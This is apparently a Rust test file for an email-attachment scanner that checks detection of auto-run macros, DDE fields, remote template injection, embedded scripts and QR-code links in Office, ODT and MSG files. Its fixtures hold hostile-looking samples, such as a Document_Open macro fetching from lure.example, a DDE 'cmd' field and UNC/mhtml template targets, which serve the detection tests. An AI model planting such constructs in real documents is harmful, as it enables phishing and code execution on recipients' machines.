use super::super::archive::tests::zipped;
use super::super::qr::tests::{drawn, file};
use super::super::tests::see;
use super::vba::tests::compress;
use cfb::CompoundFile;
use image::ImageFormat;
use std::io::{Cursor, Write};
use thymus_event::DefectKind;
use thymus_event::email::{ActiveContent, FileKind, LinkPlace};

const TYPES: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");

fn ole(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, content) in streams {
        let parent = std::path::Path::new(path).parent().unwrap();
        file.create_storage_all(parent).unwrap();
        file.create_stream(path).unwrap().write_all(content).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

fn module(source: &str) -> Vec<u8> {
    let source = format!("Attribute VB_Name = \"ThisDocument\"\r\n{source}");
    [&[0x17; 100][..], &compress(source.as_bytes())].concat()
}

fn project(source: &str) -> Vec<u8> {
    ole(&[("/VBA/_VBA_PROJECT", b"x"), ("/VBA/dir", b"y"), ("/VBA/ThisDocument", &module(source))])
}

fn document(part: (&str, &[u8])) -> super::super::tests::Seen {
    see("a.docx", &zipped(&[TYPES, part]))
}

fn relation(kind: &str, target: &str, mode: &str) -> Vec<u8> {
    format!("<?xml version='1.0'?><Relationships><Relationship Id=\"r1\" Type=\"http://schemas.example/relationships/{kind}\" Target=\"{target}\" TargetMode=\"{mode}\"/></Relationships>").into_bytes()
}

#[test]
fn macros_that_start_and_macros_that_wait() {
    let auto = "Sub Document_Open()\r\nGet \"https://lure.example/a\"\r\nEnd Sub";
    for (name, bytes) in [
        ("a.docm", zipped(&[TYPES, ("word/vbaProject.bin", &project(auto))])),
        (
            "a.doc",
            ole(&[("/WordDocument", b"x"), ("/Macros/VBA/_VBA_PROJECT", b"x"), ("/Macros/VBA/M", &module(auto))]),
        ),
    ] {
        let seen = see(name, &bytes);
        assert_eq!(seen.kind, FileKind::OfficeMacro, "{name}");
        assert_eq!(seen.attachment.active, [ActiveContent::AutoMacro, ActiveContent::Macro], "{name}");
        assert_eq!(seen.urls(), ["https://lure.example/a"]);
    }
    let waiting = zipped(&[TYPES, ("xl/vbaProject.bin", &project("Sub Sum()\r\n'calls Document_Open\r\nEnd Sub"))]);
    assert_eq!(see("a.xlsm", &waiting).attachment.active, [ActiveContent::Macro]);
}

#[test]
fn macro_sheets_of_old() {
    let sheets = zipped(&[
        TYPES,
        ("xl/macrosheets/sheet1.xml", b"x"),
        ("xl/workbook.xml", b"<definedName name=\"_xlnm.Auto_Open\">"),
    ]);
    assert_eq!(see("a.xlsm", &sheets).attachment.active, [ActiveContent::AutoMacro, ActiveContent::Macro]);
    let sheet = |kind: u8| {
        [&[0x85, 0, 8, 0, 0, 0, 0, 0, 0, kind, 1, 0][..], &[0x18, 0, 16, 0, 0x20, 0], &[0; 13], &[1]].concat()
    };
    assert_eq!(
        see("a.xls", &ole(&[("/Workbook", &sheet(1))])).attachment.active,
        [ActiveContent::AutoMacro, ActiveContent::Macro]
    );
    assert!(see("a.xls", &ole(&[("/Workbook", &sheet(0))])).attachment.active.is_empty());
    assert!(see("a.xls", &ole(&[("/Workbook", &[0x2F, 0, 0, 0])])).attachment.encrypted);
}

#[test]
fn relations_to_elsewhere() {
    let rels = "word/_rels/document.xml.rels";
    let link = document((rels, &relation("hyperlink", "https://lure.example/?a=1&amp;b=2", "External")));
    assert_eq!(link.links, [("https://lure.example/?a=1&b=2".to_owned(), LinkPlace::Attachment)]);
    assert!(link.attachment.active.is_empty());
    for target in [
        "https://lure.example/t.dotm",
        "\\\\lure.example\\t.dotm",
        "file://lure.example/t.dotm",
        "mhtml:https://lure.example/x!x",
    ] {
        let template = document((rels, &relation("attachedTemplate", target, "External")));
        assert_eq!(template.attachment.active, [ActiveContent::ExternalTemplate], "{target}");
    }
    for (kind, target, mode) in [
        ("attachedTemplate", "file:///C:\\Users\\ann\\Normal.dotm", "External"),
        ("hyperlink", "document2.xml", "Internal"),
        ("image", "media/image1.png", "Internal"),
    ] {
        let seen = document((rels, &relation(kind, target, mode)));
        assert!(seen.attachment.active.is_empty() && seen.links.is_empty(), "{target}");
    }
}

#[test]
fn fields_that_run_commands_and_fields_that_do_not() {
    let split = b"<w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x cmd </w:instrText>";
    assert_eq!(document(("word/document.xml", split)).attachment.active, [ActiveContent::Dde]);
    let link =
        document(("word/document.xml", b"<w:fldSimple w:instr=\" HYPERLINK &quot;https://lure.example/x&quot; \">"));
    assert_eq!((link.urls(), link.attachment.active.len()), (vec!["https://lure.example/x"], 0));
    let page = document((
        "word/document.xml",
        b"<w:instrText>PAGE \\* MERGEFORMAT</w:instrText><w:t>DDE is an old thing</w:t>",
    ));
    assert!(page.attachment.active.is_empty() && page.links.is_empty());
    let sheet = see(
        "a.xlsx",
        &zipped(&[TYPES, ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService=\"cmd\"/>")]),
    );
    assert_eq!(sheet.attachment.active, [ActiveContent::Dde]);
}

fn native(name: &str) -> Vec<u8> {
    [&[9, 0, 0, 0, 2, 0][..], name.as_bytes(), b"\0C:\\x\\", name.as_bytes(), b"\0rest"].concat()
}

#[test]
fn files_as_objects() {
    let object =
        |name: &str| document(("word/embeddings/oleObject1.bin", &ole(&[("/\u{1}Ole10Native", &native(name))])));
    let seen = object("Open.vbs");
    assert_eq!(
        (seen.attachment.active.as_slice(), seen.attachment.entries[0].name.as_str()),
        ([ActiveContent::EmbeddedProgram].as_slice(), "Open.vbs")
    );
    assert_eq!(object("table.xlsx").attachment.active, [ActiveContent::EmbeddedFile]);
    let chart = document(("word/embeddings/Microsoft_Excel_Sheet1.xlsx", b"PK\x03\x04"));
    assert!(chart.attachment.active.is_empty());
}

#[test]
fn a_code_in_a_document() {
    let code = file(&drawn("https://lure.example/q", 4, 4), ImageFormat::Png);
    assert_eq!(
        document(("word/media/image1.png", &code)).links,
        [("https://lure.example/q".to_owned(), LinkPlace::QrCode)]
    );
}

#[test]
fn open_documents() {
    let content = b"<text:a xlink:type=\"simple\" xlink:href=\"https://lure.example/x\">see</text:a>";
    let mimetype = ("mimetype", b"application/vnd.oasis.opendocument.text".as_slice());
    let seen = see("a.odt", &zipped(&[mimetype, ("content.xml", content)]));
    assert_eq!((seen.kind, seen.urls()), (FileKind::Office, vec!["https://lure.example/x"]));
    let seen = see("a.odt", &zipped(&[mimetype, ("Basic/Standard/Module1.xml", b"x")]));
    assert_eq!(
        (seen.kind, seen.attachment.active.as_slice()),
        (FileKind::OfficeMacro, [ActiveContent::Macro].as_slice())
    );
}

#[test]
fn encrypted_documents() {
    assert!(see("a.docx", &ole(&[("/EncryptedPackage", b"x"), ("/EncryptionInfo", b"y")])).attachment.encrypted);
    assert!(see("a.doc", &ole(&[("/WordDocument", &[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1])])).attachment.encrypted);
    assert!(!see("a.doc", &ole(&[("/WordDocument", &[0; 12])])).attachment.encrypted);
}

#[test]
fn a_saved_message_with_files() {
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let message = ole(&[
        ("/__substg1.0_1000001F", &utf16("see https://a.example/1")),
        ("/__substg1.0_10130102", b"<html><a href=https://b.example>x</a></html>"),
        ("/__attach_version1.0_#00000000/__substg1.0_3707001F", &utf16("scan.pdf")),
        ("/__attach_version1.0_#00000000/__substg1.0_37010102", b"%PDF-1.4 1 0 obj<</URI(https://c.example/)>>endobj"),
    ]);
    let seen = see("a.msg", &message);
    let mut urls = seen.urls();
    urls.sort_unstable();
    assert_eq!(
        (seen.kind, urls, seen.pages),
        (FileKind::Message, vec!["https://a.example/1", "https://c.example/"], 1)
    );
    assert_eq!(seen.attachment.entries[0].name, "scan.pdf");
}

#[test]
fn messages_in_messages_end() {
    let mut inner = ole(&[("/__substg1.0_1000001F", b"x")]);
    for _ in 0..12 {
        let name: Vec<u8> = "a.msg".encode_utf16().flat_map(u16::to_le_bytes).collect();
        inner = ole(&[
            ("/__attach_version1.0_#00000000/__substg1.0_3707001F", &name),
            ("/__attach_version1.0_#00000000/__substg1.0_37010102", &inner),
        ]);
    }
    assert!(see("a.msg", &inner).has(DefectKind::TooDeep));
}

#[test]
fn broken_ones_are_told_by_their_marks() {
    let whole = project("Sub AutoOpen()");
    for end in (0..whole.len()).step_by(61) {
        let _ = see("a.doc", &whole[..end]);
    }
    let mut broken = whole;
    broken[0x30..0x34].copy_from_slice(&[0xFF; 4]);
    let seen = see("a.doc", &broken);
    assert!(seen.has(DefectKind::BadAttachment) && seen.kind == FileKind::OfficeMacro, "{seen:?}");
}
